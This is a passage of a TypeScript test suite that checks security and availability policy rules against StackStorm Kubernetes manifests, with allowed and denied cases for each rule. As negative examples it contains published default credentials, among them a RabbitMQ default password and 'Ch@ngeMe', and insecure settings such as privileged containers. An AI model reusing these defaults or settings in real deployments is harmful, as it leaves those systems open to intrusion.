/**
 * Every policy rule through the real compiled wasm (policies/bundle): for
 * each rule id at least one allowed and one denied input, each chart default
 * literal in Secret data, stringData, ConfigMap text and container env, and
 * the severity per environment (dev warns, staging and production deny,
 * an undeclared environment is production).
 */
import { generateKeyPairSync } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import { loadPolicyEngine } from '../../src/repository/index.js';
import type { Manifest } from '../../src/core/manifest.js';
import { createNodeFileReader, type FileReader } from '../../src/io/file-system.js';
import type { PolicyEngine } from '../../src/policy/engine.js';
import { checkRender, hasFailure, type PolicyReport } from '../../src/policy/index.js';
import type { FieldEdit } from '../../src/render/resource.js';
import {
  asRendered,
  b64,
  CHART_LITERALS,
  configMap,
  haWorkload,
  makeCertificates,
  meta,
  NAMESPACE,
  NOW,
  pdb,
  RBAC_CONFIG,
  repoRoot,
  repoSecretData,
  secret,
  service,
  workload,
  type Certificates,
} from './support.js';
import { fresh11RuleCases } from './fresh11-rule-cases.js';
import { fresh12RuleCases } from './fresh12-rule-cases.js';
import { deny, rows, warn, type RuleCase } from './rule-case.js';
import { fresh13StoresRuleCases } from './fresh13-stores-rule-cases.js';
import { fresh13RuleCases } from './fresh13-rule-cases.js';
import { fresh15TlsRuleCases } from './fresh15-tls-rule-cases.js';
import { fresh16St2optRuleCases } from './fresh16-st2opt-rule-cases.js';
import { fresh17CfgRuleCases } from './fresh17-cfg-rule-cases.js';
import { fresh18KvRuleCases } from './fresh18-kv-rule-cases.js';
import { fresh16RunsRuleCases } from './fresh16-runs-rule-cases.js';
import { fresh17EnvRuleCases } from './fresh17-env-rule-cases.js';
import { fresh16ShapeRuleCases } from './fresh16-shape-rule-cases.js';
import { fresh19DupRuleCases } from './fresh19-dup-rule-cases.js';

/** st2garbagecollector (the image's own command: st2.conf, st2.docker.conf, st2.user.conf) with st2.user.conf from a ConfigMap. */
/** st2auth reading this text as st2.user.conf (after RBAC turned on, so only the auth options are judged). */
/** st2web's Service (443 only) and an nginx Ingress to it. */
const st2webService = (): Manifest => ({ apiVersion: 'v1', kind: 'Service', metadata: { name: 'st2web', labels: { app: 'st2web' } }, spec: { selector: { app: 'st2web' }, ports: [{ name: 'https', port: 443, targetPort: 443 }] } });
/** A Role (with a RoleBinding) or a ClusterRole (with a ClusterRoleBinding) of these rules for every service account. */
const everySa = (kind: 'Role' | 'ClusterRole', rules: Manifest[]): Manifest[] => [
  { apiVersion: 'rbac.authorization.k8s.io/v1', kind, metadata: meta('pack-rights'), rules },
  { apiVersion: 'rbac.authorization.k8s.io/v1', kind: kind === 'Role' ? 'RoleBinding' : 'ClusterRoleBinding', metadata: meta('pack-rights'), roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind, name: 'pack-rights' }, subjects: [{ kind: 'Group', name: 'system:serviceaccounts' }] },
];
const st2webIngress = (port: Record<string, unknown>, protocol: string | undefined): Manifest => ({
  apiVersion: 'networking.k8s.io/v1',
  kind: 'Ingress',
  metadata: { name: 'st2web', annotations: { 'cert-manager.io/cluster-issuer': 'letsencrypt-production', ...(protocol ? { 'nginx.ingress.kubernetes.io/backend-protocol': protocol } : {}) } },
  spec: { ingressClassName: 'nginx', tls: [{ hosts: ['st2.example.com'], secretName: 'st2web-tls' }], rules: [{ host: 'st2.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'st2web', port } } }] } }] },
});

function authService(userConf: string, args?: string[]): Manifest[] {
  return [
    ...haWorkload('st2auth', 2, {
      container: { ...(args ? { command: ['/opt/stackstorm/st2/bin/st2auth'], args: ['--config-file=/etc/st2/st2.conf', '--config-file=/etc/st2/st2.user.conf', ...args] } : {}), volumeMounts: [{ name: 'cfg', mountPath: '/etc/st2/st2.user.conf', subPath: 'st2.user.conf' }] },
      pod: { volumes: [{ name: 'cfg', configMap: { name: 'st2auth-config' } }] },
    }),
    configMap('st2auth-config', { 'st2.user.conf': `[rbac]\nenable = True\nbackend = default\n\n${userConf}` }),
  ];
}

/** The bus and the database with a login, as st2auth's file (authService) gives them. */
const STORES = '[messaging]\nurl = amqp://st2:{{ .pw }}@rabbitmq:5672\n[database]\nhost = mongodb://mongodb:27017/\nusername = st2\n';

/** st2api with these arguments, mounting st2auth's file (the stores) as /etc/st2/st2.secrets.conf. */
function st2apiReading(args: string[]): Manifest[] {
  return haWorkload('st2api', 2, {
    container: { command: ['/opt/stackstorm/st2/bin/st2api'], args, volumeMounts: [{ name: 'cfg', mountPath: '/etc/st2/st2.secrets.conf', subPath: 'st2.user.conf' }] },
    pod: { volumes: [{ name: 'cfg', configMap: { name: 'st2auth-config' } }] },
  });
}

/** A sensor container of its own (st2sensorcontainer-<id>) reading a hash partition as its st2.user.conf. */
function hashSensor(id: string, ranges: string): Manifest[] {
  return [
    workload('st2sensorcontainer', {
      name: `st2sensorcontainer-${id}`,
      container: { volumeMounts: [{ name: 'cfg', mountPath: '/etc/st2/st2.user.conf', subPath: 'st2.user.conf' }] },
      pod: { volumes: [{ name: 'cfg', configMap: { name: `sensor-${id}` } }] },
    }),
    configMap(`sensor-${id}`, { 'st2.user.conf': `[sensorcontainer]\nsensor_node_name = node-${id}\npartition_provider = name:hash, hash_ranges:${ranges}\n` }),
  ];
}

function maskedService(userConf: string): Manifest[] {
  return [
    workload('st2garbagecollector', {
      container: { volumeMounts: [{ name: 'cfg', mountPath: '/etc/st2/st2.user.conf', subPath: 'st2.user.conf' }] },
      pod: { volumes: [{ name: 'cfg', configMap: { name: 'st2-gc-config' } }] },
    }),
    configMap('st2-gc-config', { 'st2.user.conf': userConf }),
  ];
}

// Made once in beforeAll; the case builders read them lazily.
let certs: Certificates;
const freshRsa = generateKeyPairSync('rsa', { modulusLength: 2048 });
const freshSshKey = freshRsa.privateKey.export({ type: 'pkcs1', format: 'pem' }).toString();
const freshTlsKey = freshRsa.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
const freshSshPublic = freshRsa.publicKey.export({ type: 'spki', format: 'pem' }).toString();

const baseSshKey = (): string => repoSecretData('components/default-secrets/st2-ssh.yaml', 'private_key');
const baseTlsKey = (): string => repoSecretData('components/default-secrets/st2web.yaml', 'ssl_certificate_key');
const baseTlsCert = (): string => repoSecretData('components/default-secrets/st2web.yaml', 'ssl_certificate');

function literalCases(): RuleCase[] {
  const cases: RuleCase[] = [];
  for (const { id, value } of CHART_LITERALS) {
    const message = `literal=${id}`;
    cases.push(
      {
        name: `${id} in Secret data (base64) is denied`,
        rule: 'ST2-SEC-001',
        environment: 'production',
        resources: () => [secret('app-credentials', { data: { password: b64(value) } })],
        expected: deny('ST2-SEC-001', { field: 'data.password', message }),
      },
      {
        name: `${id} in Secret stringData is denied`,
        rule: 'ST2-SEC-001',
        environment: 'production',
        resources: () => [secret('app-credentials', { stringData: { password: value } })],
        expected: deny('ST2-SEC-001', { field: 'stringData.password', message }),
      },
      {
        name: `${id} in ConfigMap text (an st2.docker.conf URL) is denied`,
        rule: 'ST2-SEC-001',
        environment: 'production',
        resources: () => [
          configMap('st2-config', { 'st2.docker.conf': `[messaging]\nurl = amqp://admin:${value}@rabbitmq:5672\n[auth]\nenable = True\n` }),
        ],
        expected: deny('ST2-SEC-001', { field: 'data.st2.docker.conf', message }),
      },
      {
        name: `${id} in a container env literal is denied`,
        rule: 'ST2-SEC-001',
        environment: 'production',
        resources: () => [workload('myapp', { container: { env: [{ name: 'APP_SECRET', value }] } })],
        expected: deny('ST2-SEC-001', { field: 'spec.template.spec.containers.0.env.0.value', message }),
      },
    );
  }
  return cases;
}

const cases: RuleCase[] = [
  // --- ST2-SEC-001: chart default literals ---------------------------------------------
  ...literalCases(),
  ...rows('ST2-SEC-001', [
    ['production', 'the RabbitMQ default percent-encoded in a ConfigMap URL is denied', () => [configMap('st2-config', { 'st2.docker.conf': '[messaging]\nurl = amqp://admin:9jS%2Bw1u07NbHtZke1m%2BjW4Cj@rabbitmq:5672\n' })], deny('ST2-SEC-001', { message: 'literal=rabbitmq-password' })],
    ['dev', 'a default literal in dev is only a warning', () => [secret('st2-auth', { stringData: { password: 'Ch@ngeMe' } })], warn('ST2-SEC-001')],
    ['staging', 'a default literal in staging is denied', () => [secret('st2-auth', { stringData: { password: 'Ch@ngeMe' } })], deny('ST2-SEC-001')],
    [undefined, 'a default literal in an overlay that declares no environment is denied (judged as production)', () => [secret('st2-auth', { stringData: { password: 'Ch@ngeMe' } })], deny('ST2-SEC-001')],
    ['qa-eu', 'a default literal in an unknown environment is denied (judged as production)', () => [workload('myapp', { container: { env: [{ name: 'ST2_PASSWORD', value: 'Ch@ngeMe' }] } })], deny('ST2-SEC-001')],
  ]),
  {
    // Staging: in production a password in a ConfigMap's bus URL is outside the store (ST2-SEC-013).
    name: 'generated passwords in Secret, ConfigMap and env are allowed',
    rule: 'ST2-SEC-001',
    environment: 'staging',
    resources: () => [
      secret('st2-auth', { data: { password: b64('q7V!rT9#mZ2pL4xw') }, stringData: { token: 'xoxb-1234-5678-abcdefghijkl' } }),
      configMap('st2-config', { 'st2.docker.conf': '[messaging]\nurl = amqp://admin:Zq81kLmP0aX3@rabbitmq:5672\n' }),
      workload('myapp', { container: { env: [{ name: 'ADMIN_USER', value: 'admin' }] } }),
    ],
    expected: 'allowed',
  },
  {
    name: 'a short word that merely contains part of a default is allowed',
    rule: 'ST2-SEC-001',
    environment: 'production',
    resources: () => [configMap('notes', { readme: 'Please change me before use.' })],
    expected: 'allowed',
  },

  // --- ST2-SEC-002: license ------------------------------------------------------------
  ...rows('ST2-SEC-002', [
    ['production', 'the chart CI placeholder license is denied', () => [secret('st2-license', { stringData: { st2_license: '123asd456fake' } })], deny('ST2-SEC-002', { field: 'stringData.st2_license', message: 'reason=placeholder' })],
    ['staging', 'an empty license in stringData is denied', () => [secret('st2-license', { stringData: { st2_license: '' } })], deny('ST2-SEC-002', { message: 'reason=empty' })],
    ['production', 'a license Secret with no value at all is denied', () => [secret('st2-license', { data: {} })], deny('ST2-SEC-002', { field: 'data', message: 'reason=missing' })],
    ['dev', 'a placeholder license in dev is a warning', () => [secret('st2-license', { stringData: { st2_license: 'st2-license-placeholder' } })], warn('ST2-SEC-002')],
    ['production', 'a real-looking license is allowed', () => [secret('st2-license', { stringData: { st2_license: 'b3f1c9e2-77aa-4c1d-9a3e-0d5f2e8b6c41' } })], 'allowed'],
  ]),

  // --- ST2-SEC-003..006: keys and certificates by fingerprint ----------------------------
  ...rows('ST2-SEC-003', [
    ['production', 'the base SSH key of components/default-secrets is denied by fingerprint', () => [secret('st2-ssh', { data: { private_key: baseSshKey() } })], deny('ST2-SEC-003', { field: 'data.private_key', message: 'default=base-st2-ssh-key' })],
    ['dev', 'the base SSH key in dev is a warning', () => [secret('st2-ssh', { data: { private_key: baseSshKey() } })], warn('ST2-SEC-003')],
    // In production any committed private key is ST2-SEC-021 (below); dev judges only published keys.
    ['dev', 'a freshly generated SSH key is allowed in dev', () => [secret('st2-ssh', { stringData: { private_key: freshSshKey } })], 'allowed'],
  ]),
  ...rows('ST2-SEC-021', [
    ['production', 'a freshly generated SSH key committed in production is denied', () => [secret('st2-ssh', { stringData: { private_key: freshSshKey } })], deny('ST2-SEC-021', { field: 'stringData.private_key' })],
    ['production', 'an SSH public key in production is allowed', () => [secret('st2-ssh', { stringData: { authorized_keys: freshSshPublic } })], 'allowed'],
  ]),
  ...rows('ST2-SEC-004', [
    ['production', 'a value whose sha256 is a published default is denied when no fingerprint identifies it', () => [secret('st2-ssh', { data: { private_key: baseSshKey() } })], deny('ST2-SEC-004', { message: 'default=base-st2-ssh-private-key' }), { unparsableValues: true }],
    ['production', 'a value already identified by its key fingerprint is not reported again by hash', () => [secret('st2-ssh', { data: { private_key: baseSshKey() } })], 'allowed', { others: ['ST2-SEC-003'] }],
  ]),
  ...rows('ST2-SEC-005', [
    ['production', 'the base st2web TLS key is denied by its public key hash', () => [secret('st2web', { data: { ssl_certificate_key: baseTlsKey() } })], deny('ST2-SEC-005', { field: 'data.ssl_certificate_key', message: 'default=base-st2web-key' })],
    // In production any committed private key is ST2-SEC-021; dev judges only published keys.
    ['dev', 'a freshly generated TLS key is allowed in dev', () => [secret('st2web', { stringData: { 'tls.key': freshTlsKey } })], 'allowed'],
  ]),
  ...rows('ST2-SEC-006', [
    ['production', 'the base st2web certificate is denied by fingerprint', () => [secret('st2web', { data: { ssl_certificate: baseTlsCert() } })], deny('ST2-SEC-006', { field: 'data.ssl_certificate', message: 'default=base-st2web-certificate' })],
    ['production', 'a CA-signed certificate is not a default certificate', () => [secret('st2web-tls', { stringData: { 'tls.crt': certs.caSigned } })], 'allowed'],
  ]),

  // --- ST2-SEC-007: self-signed or expired certificates ------------------------------------
  ...rows('ST2-SEC-007', [
    ['production', 'a self-signed certificate made at test time is denied in production', () => [secret('st2web-tls', { stringData: { 'tls.crt': certs.selfSigned } })], deny('ST2-SEC-007', { field: 'stringData.tls.crt', message: 'problem=self-signed' })],
    ['staging', 'a self-signed certificate is only a warning in staging', () => [secret('st2web-tls', { data: { 'tls.crt': b64(certs.selfSigned) } })], warn('ST2-SEC-007')],
    ['production', 'an expired CA-signed certificate is denied in production', () => [secret('st2web-tls', { data: { 'tls.crt': b64(certs.expired) } })], deny('ST2-SEC-007', { message: 'problem=expired' })],
    ['production', 'a valid CA-signed certificate is allowed', () => [secret('st2web-tls', { stringData: { 'tls.crt': certs.caSigned, 'ca.crt': certs.ca } })], 'allowed'],
  ]),

  // --- Exposure ------------------------------------------------------------------------------
  ...rows('ST2-EXP-005', [
    ['staging', 'a Service with externalIPs is denied', () => [...haWorkload('st2api'), { ...service('st2api', 'st2api'), spec: { selector: { app: 'st2api' }, ports: [{ port: 80 }], externalIPs: ['203.0.113.9'] } }], deny('ST2-EXP-005', { field: 'spec.externalIPs', message: 'service=st2api' })],
    ['production', 'a Service without externalIPs is allowed', () => [...haWorkload('st2api'), { ...service('st2api', 'st2api'), spec: { selector: { app: 'st2api' }, ports: [{ port: 9101 }], externalIPs: [] } }], 'allowed'],
  ]),
  {
    name: 'a LoadBalancer in front of MongoDB is denied, even restricted',
    rule: 'ST2-EXP-006',
    environment: 'production',
    resources: () => [
      workload('mongodb', { kind: 'StatefulSet', replicas: 3, container: { image: 'mongo:4.4.29' } }),
      pdb('mongodb'),
      { ...service('mongo-public', 'mongodb', 'LoadBalancer'), spec: { type: 'LoadBalancer', selector: { app: 'mongodb' }, ports: [{ port: 27017 }], loadBalancerSourceRanges: ['10.0.0.0/8'] } },
    ],
    expected: deny('ST2-EXP-006', { message: 'component=mongodb' }),
  },
  {
    name: 'a LoadBalancer in front of mongo-express (a look-alike, not the store) is not ST2-EXP-006',
    rule: 'ST2-EXP-006',
    environment: 'production',
    resources: () => [
      ...haWorkload('mongo-express', 2, { container: { image: 'mongo-express:1.0.2' } }),
      { ...service('mongo-express', 'mongo-express', 'LoadBalancer'), spec: { type: 'LoadBalancer', selector: { app: 'mongo-express' }, ports: [{ port: 8081 }], loadBalancerSourceRanges: ['10.0.0.0/8'] } },
    ],
    expected: 'allowed',
  },
  {
    name: 'an st2web LoadBalancer open to 0.0.0.0/0 is denied',
    rule: 'ST2-EXP-007',
    environment: 'production',
    resources: () => [
      ...haWorkload('st2web', 2, { container: { image: 'stackstorm/st2web:3.8.1' } }),
      { ...service('st2web', 'st2web', 'LoadBalancer'), spec: { type: 'LoadBalancer', selector: { app: 'st2web' }, ports: [{ port: 443 }], loadBalancerSourceRanges: ['0.0.0.0/0'] } },
    ],
    expected: deny('ST2-EXP-007', { message: 'service=st2web' }),
  },
  {
    name: 'an st2web LoadBalancer limited to an office network is allowed',
    rule: 'ST2-EXP-007',
    environment: 'production',
    resources: () => [
      ...haWorkload('st2web', 2, { container: { image: 'stackstorm/st2web:3.8.1' } }),
      { ...service('st2web', 'st2web', 'LoadBalancer'), spec: { type: 'LoadBalancer', selector: { app: 'st2web' }, ports: [{ port: 443 }], loadBalancerSourceRanges: ['198.51.100.0/24'] } },
    ],
    expected: 'allowed',
  },
  ...rows('ST2-EXP-001', [
    ['production', 'st2web behind only a NodePort Service is denied in production', () => [...haWorkload('st2web'), service('st2web', 'st2web', 'NodePort')], deny('ST2-EXP-001', { field: 'spec.type', message: 'service=st2web' })],
    ['dev', 'st2web behind only a NodePort Service is a warning in dev', () => [...haWorkload('st2web'), service('st2web', 'st2web', 'NodePort')], warn('ST2-EXP-001')],
  ]),
  {
    name: 'st2web behind a ClusterIP Service and an Ingress is allowed',
    rule: 'ST2-EXP-001',
    environment: 'production',
    resources: () => [
      ...haWorkload('st2web'),
      service('st2web', 'st2web'),
      {
        apiVersion: 'networking.k8s.io/v1',
        kind: 'Ingress',
        metadata: meta('st2web'),
        spec: {
          tls: [{ hosts: ['st2.example.test'], secretName: 'st2web-tls' }],
          rules: [{ host: 'st2.example.test', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'st2web', port: { number: 80 } } } }] } }],
        },
      },
    ],
    expected: 'allowed',
  },
  ...rows('ST2-EXP-002', [
    ['production', 'a NodePort etcd Service is denied in production', () => [service('etcd', 'etcd', 'NodePort')], deny('ST2-EXP-002', { field: 'spec.type', message: 'service=etcd' })],
    ['production', 'a ClusterIP etcd Service is allowed', () => [service('etcd', 'etcd', 'ClusterIP')], 'allowed'],
  ]),
  ...rows('ST2-EXP-003', [
    ['staging', 'a container hostPort is denied in staging', () => [workload('registry-proxy', { container: { ports: [{ containerPort: 5000, hostPort: 5000 }] } })], deny('ST2-EXP-003', { field: 'spec.template.spec.containers.0.ports.0.hostPort', message: 'host_port=5000' })],
    ['production', 'a containerPort without hostPort is allowed', () => [workload('registry-proxy', { container: { ports: [{ containerPort: 5000 }] } })], 'allowed'],
  ]),
  ...rows('ST2-EXP-004', [
    ['production', 'a pod on the host network is denied in production', () => [workload('myapp', { pod: { hostNetwork: true } })], deny('ST2-EXP-004', { field: 'spec.template.spec.hostNetwork' })],
    ['production', 'a pod with hostNetwork false is allowed', () => [workload('myapp', { pod: { hostNetwork: false } })], 'allowed'],
  ]),

  // --- Replicas ----------------------------------------------------------------------------
  ...rows('ST2-REP-001', [
    ['dev', 'two st2timersengine replicas are denied even in dev', () => [workload('st2timersengine', { replicas: 2 })], deny('ST2-REP-001', { field: 'spec.replicas', message: 'replicas=2' })],
    ['production', 'two one-replica st2timersengine Deployments in one namespace are denied', () => [workload('st2timersengine'), workload('st2timersengine', { name: 'st2timersengine-b' })], deny('ST2-REP-001', { message: 'total=2' })],
    ['production', 'st2timersengine as a DaemonSet is denied', () => [workload('st2timersengine', { kind: 'DaemonSet' })], deny('ST2-REP-001', { field: 'kind' })],
    ['production', 'one st2timersengine replica is allowed', () => [workload('st2timersengine', { replicas: 1 })], 'allowed'],
  ]),
  ...rows('ST2-REP-002', [
    ['production', 'an st2sensorcontainer Deployment with two replicas is denied', () => [workload('st2sensorcontainer', { replicas: 2 })], deny('ST2-REP-002', { field: 'spec.replicas' })],
    ['production', 'an st2sensorcontainer Deployment with one replica is allowed', () => [workload('st2sensorcontainer', { replicas: 1 })], 'allowed'],
  ]),
  {
    name: 'two st2sensorcontainer Deployments without partitioning are denied',
    rule: 'ST2-REP-003',
    environment: 'production',
    resources: () => [workload('st2sensorcontainer'), workload('st2sensorcontainer-pack1', { name: 'st2sensorcontainer-pack1' })],
    expected: deny('ST2-REP-003', { message: 'deployments=2' }),
  },
  {
    name: 'two st2sensorcontainer Deployments each in single-sensor mode are allowed',
    rule: 'ST2-REP-003',
    environment: 'production',
    resources: () => [
      workload('st2sensorcontainer-a', { container: { args: ['--single-sensor-mode', '--sensor-ref=pack1.SensorA'] } }),
      workload('st2sensorcontainer-b', { container: { args: ['--single-sensor-mode', '--sensor-ref=pack1.SensorB'] } }),
    ],
    expected: 'allowed',
  },
  ...rows('ST2-REP-004', [
    ['production', 'two st2garbagecollector replicas are a warning in production (st2 ha.rst: no benefit, no harm)', () => [workload('st2garbagecollector', { replicas: 2 })], warn('ST2-REP-004', { field: 'spec.replicas', message: 'component=st2garbagecollector' })],
    ['dev', 'two st2client replicas are a warning in dev', () => [workload('st2client', { replicas: 2 })], warn('ST2-REP-004')],
    ['production', 'one st2garbagecollector replica is allowed', () => [workload('st2garbagecollector', { replicas: 1 })], 'allowed'],
  ]),
  ...rows('ST2-REP-005', [
    ['production', 'one st2api replica is denied in production', () => [workload('st2api', { replicas: 1 })], deny('ST2-REP-005', { field: 'spec.replicas', message: 'component=st2api' })],
    ['staging', 'one st2api replica is a warning in staging', () => [workload('st2api', { replicas: 1 })], warn('ST2-REP-005')],
    ['dev', 'one st2api replica is not checked in dev', () => [workload('st2api', { replicas: 1 })], 'allowed'],
    ['production', 'two st2api replicas with a PDB are allowed in production', () => haWorkload('st2api', 2), 'allowed'],
  ]),
  {
    name: 'two st2actionrunner replicas without a coordination backend are denied',
    rule: 'ST2-REP-006',
    environment: 'production',
    resources: () => haWorkload('st2actionrunner', 2),
    expected: deny('ST2-REP-006', { field: 'spec.replicas', message: 'total=2' }),
  },
  {
    name: 'two st2actionrunner replicas with a redis coordination backend in the render are allowed',
    rule: 'ST2-REP-006',
    environment: 'production',
    resources: () => [
      ...haWorkload('st2actionrunner', 2),
      ...haWorkload('st2scheduler', 2),
      ...haWorkload('redis', 3, { kind: 'StatefulSet', container: { image: 'redis:7.2.4' } }),
      configMap('st2-config', { 'st2.docker.conf': '[coordination]\nurl = redis://redis:26379?sentinel=st2\n\n[messaging]\nurl = amqp://st2@rabbitmq:5672\n' }),
    ],
    expected: 'allowed',
  },
  ...rows('ST2-REP-011', [
    ['dev', 'st2actionrunner without st2scheduler is denied, even in dev (executions stay requested)', () => [workload('st2actionrunner', { replicas: 1 })], deny('ST2-REP-011', { field: 'metadata.name', message: 'component=st2actionrunner' })],
    ['dev', 'st2actionrunner with st2scheduler is allowed in dev', () => [workload('st2actionrunner', { replicas: 1 }), workload('st2scheduler', { replicas: 1 })], 'allowed'],
  ]),
  {
    name: 'one st2scheduler replica is denied in production',
    rule: 'ST2-REP-005',
    environment: 'production',
    resources: () => [workload('st2scheduler', { replicas: 1 })],
    expected: deny('ST2-REP-005', { field: 'spec.replicas', message: 'component=st2scheduler' }),
  },
  {
    name: 'etcd:// with an etcd 3.6 (no v2 API) is denied',
    rule: 'ST2-REP-012',
    environment: 'dev',
    resources: () => [
      workload('etcd', { kind: 'StatefulSet', container: { image: 'bitnamilegacy/etcd:3.6.4', args: ['--enable-v2=true'] } }),
      configMap('st2-config', { 'st2.docker.conf': '[coordination]\nurl = etcd://etcd:2379\n' }),
    ],
    expected: deny('ST2-REP-012', { field: 'spec.template.spec.containers.0.image', message: 'no v2 API' }),
  },
  {
    name: 'etcd:// with etcd 3.5 and v2 on, probed on /readyz, is denied (404 with v2 on)',
    rule: 'ST2-REP-012',
    environment: 'dev',
    resources: () => [
      workload('etcd', {
        kind: 'StatefulSet',
        container: { image: 'bitnamilegacy/etcd:3.5.17', args: ['--enable-v2=true'], readinessProbe: { httpGet: { path: '/readyz', port: 2379 } } },
      }),
      configMap('st2-config', { 'st2.docker.conf': '[coordination]\nurl = etcd://etcd:2379\n' }),
    ],
    expected: deny('ST2-REP-012', { message: 'readinessProbe /readyz answers 404' }),
  },
  {
    name: 'etcd:// with etcd 3.5, v2 on and /health probes is allowed',
    rule: 'ST2-REP-012',
    environment: 'dev',
    resources: () => [
      workload('etcd', {
        kind: 'StatefulSet',
        container: { image: 'bitnamilegacy/etcd:3.5.17', args: ['--enable-v2=true'], readinessProbe: { httpGet: { path: '/health', port: 2379 } } },
      }),
      configMap('st2-config', { 'st2.docker.conf': '[coordination]\nurl = etcd://etcd:2379\n' }),
    ],
    expected: 'allowed',
  },
  {
    name: 'a renamed image reading the st2 config without a command is denied (which service is it?)',
    rule: 'ST2-REP-013',
    environment: 'production',
    resources: () => [
      workload('cron-worker', {
        container: { image: 'registry.example.com/platform/cron-worker:1.4.2', volumeMounts: [{ name: 'c', mountPath: '/etc/st2/st2.docker.conf', subPath: 'st2.docker.conf' }] },
      }),
    ],
    expected: deny('ST2-REP-013', { field: 'spec.template.spec.containers.0.image', message: 'image=registry.example.com/platform/cron-worker:1.4.2' }),
  },
  {
    name: 'a st2 tool with a literal command reading the st2 config is allowed',
    rule: 'ST2-REP-013',
    environment: 'production',
    resources: () => [
      workload('purge', {
        container: {
          image: 'stackstorm/st2actionrunner:3.8.1',
          command: ['/opt/stackstorm/st2/bin/st2-purge-executions', '--config-file=/etc/st2/st2.conf'],
          volumeMounts: [{ name: 'c', mountPath: '/etc/st2/st2.docker.conf', subPath: 'st2.docker.conf' }],
        },
      }),
    ],
    expected: 'allowed',
  },
  {
    name: 'an st2timersengine Deployment that surges during a rollout is denied',
    rule: 'ST2-REP-001',
    environment: 'production',
    resources: () => {
      const d = workload('st2timersengine', { replicas: 1 });
      const spec = d['spec'] as Record<string, unknown>;
      spec['strategy'] = { type: 'RollingUpdate', rollingUpdate: { maxSurge: 1, maxUnavailable: 0 } };
      return [d];
    },
    expected: deny('ST2-REP-001', { field: 'spec.strategy', message: 'use strategy Recreate' }),
  },
  ...rows('ST2-REP-007', [
    ['production', 'a MongoDB StatefulSet with 2 members is denied in production', () => haWorkload('mongodb', 2, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29' } }), deny('ST2-REP-007', { field: 'spec.replicas', message: 'role=mongodb' })],
    ['staging', 'a 2-node RabbitMQ is a warning in staging', () => haWorkload('rabbitmq', 2, { kind: 'StatefulSet', container: { image: 'rabbitmq:3.12.14' } }), warn('ST2-REP-007', { message: 'role=rabbitmq' })],
    ['production', 'a 3-member MongoDB StatefulSet is allowed in production', () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/k/key.txt'] } }), 'allowed'],
  ]),
  ...rows('ST2-REP-008', [
    ['production', 'etcd as a Deployment with 3 replicas is denied', () => haWorkload('etcd', 3, { container: { image: 'bitnamilegacy/etcd:3.5.17' } }), deny('ST2-REP-008', { field: 'spec.replicas', message: 'role=etcd' })],
    ['production', 'etcd as a 3-member StatefulSet is allowed', () => haWorkload('etcd', 3, { kind: 'StatefulSet', container: { image: 'bitnamilegacy/etcd:3.5.17' } }), 'allowed'],
  ]),
  ...rows('ST2-REP-009', [
    ['dev', 'an HPA on st2timersengine is denied', () => [workload('st2timersengine'), hpa('st2timersengine')], deny('ST2-REP-009', { field: 'spec.scaleTargetRef.name', message: 'component=st2timersengine' })],
    ['production', 'an HPA on st2api is allowed', () => [...haWorkload('st2api', 2), hpa('st2api')], 'allowed'],
  ]),
  ...rows('ST2-REP-010', [
    ['production', 'a Deployment scaled to zero is denied in production', () => [workload('myapp', { replicas: 0 })], deny('ST2-REP-010', { field: 'spec.replicas', message: 'name=myapp' })],
    ['dev', 'a Deployment scaled to zero is not checked in dev', () => [workload('myapp', { replicas: 0 })], 'allowed'],
  ]),

  // --- Hardening ---------------------------------------------------------------------------
  ...rows('ST2-HRD-001', [
    ['production', 'an image tagged latest is denied in production', () => [workload('myapp', { container: { image: 'stackstorm/st2packs:latest' } })], deny('ST2-HRD-001', { field: 'spec.template.spec.containers.0.image', message: 'problem=latest' })],
    ['staging', 'an image without a tag is denied in staging', () => [workload('myapp', { container: { image: 'registry.example.test:5000/st2/myapp' } })], deny('ST2-HRD-001', { message: 'problem=no-tag' })],
    ['dev', 'an image tagged latest is a warning in dev', () => [workload('myapp', { container: { image: 'bitnami/etcd:latest' } })], warn('ST2-HRD-001')],
  ]),
  {
    name: 'an image pinned by digest behind a registry port is allowed',
    rule: 'ST2-HRD-001',
    environment: 'production',
    resources: () => [
      workload('myapp', { container: { image: 'registry.example.test:5000/st2/myapp@sha256:0000000000000000000000000000000000000000000000000000000000000000' } }),
    ],
    expected: 'allowed',
  },
  ...rows('ST2-HRD-002', [
    ['production', 'a container without limits is denied in production', () => [workload('myapp', { container: { resources: { requests: { cpu: '100m' } } } })], deny('ST2-HRD-002', { field: 'spec.template.spec.containers.0.resources.limits.cpu', message: 'resource=cpu' })],
    ['staging', 'a container without limits is a warning in staging', () => [workload('myapp', { container: { resources: {} } })], warn('ST2-HRD-002')],
  ]),
  {
    name: 'a container without limits in a namespace with a defaulting LimitRange is allowed',
    rule: 'ST2-HRD-002',
    environment: 'production',
    resources: () => [
      workload('myapp', { container: { resources: {} } }),
      { apiVersion: 'v1', kind: 'LimitRange', metadata: meta('defaults'), spec: { limits: [{ type: 'Container', default: { cpu: '1', memory: '1Gi' } }] } },
    ],
    expected: 'allowed',
  },
  ...rows('ST2-HRD-003', [
    ['production', 'a privileged container is denied in production', () => [workload('st2actionrunner', { container: { securityContext: { privileged: true } } })], deny('ST2-HRD-003', { field: 'spec.template.spec.containers.0.securityContext.privileged', message: 'problem=privileged' })],
    ['staging', 'a SYS_ADMIN capability is denied in staging', () => [workload('myapp', { container: { securityContext: { capabilities: { add: ['sys_admin'] } } } })], deny('ST2-HRD-003', { message: 'capability=SYS_ADMIN' })],
    ['production', 'a container that forbids privilege escalation is allowed', () => [workload('myapp', { container: { securityContext: { privileged: false, allowPrivilegeEscalation: false } } })], 'allowed'],
  ]),
  {
    name: 'an Ingress sending outside traffic to the RabbitMQ management port is denied',
    rule: 'ST2-EXP-008',
    environment: 'production',
    resources: () => [
      workload('rabbitmq', { kind: 'StatefulSet', replicas: 3, container: { image: 'rabbitmq:3.12.14' } }),
      pdb('rabbitmq'),
      service('rabbitmq', 'rabbitmq'),
      {
        apiVersion: 'networking.k8s.io/v1',
        kind: 'Ingress',
        metadata: meta('mq-admin'),
